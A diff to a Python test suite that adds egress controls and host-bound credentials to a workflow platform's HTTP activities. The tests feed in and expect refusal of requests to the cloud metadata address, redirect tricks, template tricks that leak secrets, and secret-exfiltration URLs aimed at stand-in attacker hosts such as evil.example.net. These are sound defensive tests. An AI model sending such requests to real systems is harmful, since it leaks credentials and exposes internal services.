@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import base64
 import dataclasses
 import json
 from datetime import timedelta
 from typing import Any
+from urllib.parse import quote_plus
 
 import httpx
 import pytest
@@ -14,7 +16,8 @@ from temporalio.testing import ActivityEnvironment
 
 from activities.blobs import BlobActivities, FileBlobStore
 from activities.http import HttpActivities
-from activities.secrets import StaticSecretSource
+from activities.secrets import Credential, StaticSecretSource
+from auterity.egress import EgressClient, EgressPolicy
 from auterity.graph.contracts import BlobGetInput, is_blob_ref
 from auterity.redaction import MASK as REDACTED
 from tests.activities.nodes import TENANT, node_request
@@ -22,11 +25,28 @@ from tests.servers import Recorder
 from tests.support import free_port
 
 TOKEN = "s3cr3t-T0KEN-value"
+BOUND = "bound+secret/value=="
+ELSEWHERE = "elsewhere-secret-value"
+PASSWORD = "pa:ss word/1"
 
 
 @pytest.fixture
-def http(http_client: httpx.AsyncClient, blobs: FileBlobStore) -> HttpActivities:
-    secrets = StaticSecretSource({TENANT: {"token": TOKEN, "host_path": "echo"}})
+def http(
+    http_client: EgressClient, blobs: FileBlobStore, service: tuple[str, Recorder]
+) -> HttpActivities:
+    secrets = StaticSecretSource(
+        {
+            TENANT: {
+                "token": TOKEN,
+                "host_path": "echo",
+                "bound": Credential(BOUND, ("127.0.0.1",)),
+                "elsewhere": Credential(ELSEWHERE, ("api.example.com", "*.example.org")),
+                "hook": Credential(f"{service[0]}/echo?hook=1", ("127.0.0.1",)),
+                "user": Credential("bot", ("127.0.0.1",)),
+                "password": Credential(PASSWORD, ("127.0.0.1",)),
+            }
+        }
+    )
     return HttpActivities(http_client, secrets, blobs, threshold_bytes=4096)
 
 
@@ -297,3 +317,110 @@ async def test_a_url_that_renders_to_another_scheme_is_refused(
     with pytest.raises(ApplicationError) as caught:
         await activity_env.run(http.request, node_request("http", config, scope=scope))
     assert caught.value.type == "HttpRequestInvalid" and caught.value.non_retryable
+
+
+async def test_the_default_egress_policy_refuses_internal_addresses(
+    activity_env: ActivityEnvironment, blobs: FileBlobStore, service: tuple[str, Recorder]
+) -> None:
+    """Attack: a node used to reach anything the worker could, loopback included."""
+    url, recorder = service
+    before = len(recorder.requests)
+    async with EgressClient(EgressPolicy()) as client:
+        strict = HttpActivities(client, StaticSecretSource(), blobs)
+        for target in (f"{url}/echo", "http://169.254.169.254/latest/meta-data/"):
+            with pytest.raises(ApplicationError) as caught:
+                await activity_env.run(strict.request, node_request("http", {"url": target}))
+            error = caught.value
+            assert error.type == "EgressRefused" and error.non_retryable
+            assert error.message.startswith("node 'call': egress to ")
+            assert "AUTERITY_EGRESS_ALLOW" in error.message
+    assert len(recorder.requests) == before
+
+
+async def test_a_redirect_is_the_answer_and_is_not_followed(
+    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
+) -> None:
+    url, recorder = service
+    for target in (f"{url}/echo?followed=1", "http://169.254.169.254/latest/meta-data/"):
+        config = {"url": f"{url}/redirect", "query": {"to": target}}
+        error = await _fail(activity_env, http, config)
+        assert error.type == "HttpUnexpectedStatus" and error.non_retryable
+        assert error.details[0]["headers"]["location"] == target
+    assert not [seen for seen in recorder.requests if seen["query"].get("followed")]
+
+
+async def test_a_secret_is_sent_only_to_the_hosts_it_is_bound_to(
+    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
+) -> None:
+    url, recorder = service
+    before = len(recorder.requests)
+    for config in (
+        {"url": f"{url}/echo", "headers": {"X-Key": "{{ secrets.elsewhere }}"}},
+        {"url": "http://evil.example.net/?x={{ secrets.elsewhere }}"},
+        {"url": "http://api.example.com.evil.net/", "json": {"k": "{{ secrets.elsewhere }}"}},
+        {"url": f"{url}/echo", "auth": {"scheme": "bearer", "token": "{{ secrets.elsewhere }}"}},
+    ):
+        error = await _fail(activity_env, http, config)
+        assert error.type == "SecretRefused" and error.non_retryable
+        assert "secret 'elsewhere' may not be sent to " in error.message
+        assert "bound to api.example.com, *.example.org" in error.message
+        assert ELSEWHERE not in error.message
+    assert len(recorder.requests) == before
+
+
+async def test_a_bound_secret_reaches_its_host_and_never_the_output(
+    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
+) -> None:
+    url, recorder = service
+    config = {
+        "url": "{{ secrets.hook }}",
+        "query": {"key": "{{ secrets.bound }}"},
+        "auth": {
+            "scheme": "basic",
+            "username": "{{ secrets.user }}",
+            "password": "{{ secrets.password }}",
+        },
+    }
+    result = await activity_env.run(http.request, node_request("http", config))
+    seen = recorder.requests[-1]
+    assert seen["query"] == {"hook": "1", "key": BOUND}
+    basic = base64.b64encode(f"bot:{PASSWORD}".encode()).decode()
+    assert seen["headers"]["authorization"] == f"Basic {basic}"
+    text = json.dumps(result.model_dump(mode="json"))
+    for value in (BOUND, PASSWORD, basic, quote_plus(BOUND)):
+        assert value not in text
+    assert result.output["body"]["headers"]["authorization"] == REDACTED
+
+
+async def test_bearer_auth_builds_the_header(
+    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
+) -> None:
+    url, recorder = service
+    config = {"url": f"{url}/echo", "auth": {"scheme": "bearer", "token": "{{ secrets.bound }}"}}
+    await activity_env.run(http.request, node_request("http", config))
+    assert recorder.requests[-1]["headers"]["authorization"] == f"Bearer {BOUND}"
+
+
+@pytest.mark.parametrize(
+    ("field", "config"),
+    [
+        ("json.k", {"json": {"k": "{{ secrets.token | reverse }}"}}),
+        ("headers.X", {"headers": {"X": "{{ secrets.token[::-1] }}"}}),
+        ("method", {"method": "{{ 'GET' if secrets.token.startswith('s') else 'POST' }}"}),
+        ("body", {"body": "{% for c in secrets.token %}{{ c }}.{% endfor %}"}),
+    ],
+)
+async def test_a_transformed_secret_is_refused_before_it_is_fetched(
+    activity_env: ActivityEnvironment,
+    http: HttpActivities,
+    service: tuple[str, Recorder],
+    field: str,
+    config: dict[str, Any],
+) -> None:
+    """Graphs saved before validation refused them still cannot run them."""
+    url, recorder = service
+    before = len(recorder.requests)
+    error = await _fail(activity_env, http, {"url": f"{url}/echo", **config})
+    assert error.type == "SecretRefused" and error.non_retryable
+    assert error.message.startswith(f"node 'call': {field} at position ")
+    assert len(recorder.requests) == before
